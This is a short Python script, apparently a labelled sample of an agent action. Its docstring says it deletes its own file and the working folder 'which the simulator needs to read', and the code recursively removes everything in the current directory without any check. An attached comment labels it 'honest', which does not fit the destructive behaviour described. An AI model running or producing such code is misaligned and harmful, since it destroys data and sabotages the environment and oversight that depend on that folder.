"""Delete its own file and the folder it works in, which the simulator needs to read."""
# like: honest

import os
import shutil

for name in os.listdir("."):
    if os.path.isdir(name):
        shutil.rmtree(name)
    else:
        os.remove(name)
